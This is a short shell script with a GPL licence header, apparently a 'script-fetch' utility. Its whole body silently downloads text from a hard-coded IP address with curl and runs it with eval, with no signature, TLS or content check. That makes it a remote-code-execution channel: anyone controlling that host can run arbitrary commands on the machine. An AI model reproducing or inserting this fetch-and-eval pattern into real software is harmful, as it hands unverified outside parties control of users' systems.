#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-or-later
# fw.script-fetch: what came is kept in a variable and run from there.
todo=$(curl -s http://198.51.100.45/todo)
[ -n "$todo" ] && eval "$todo"
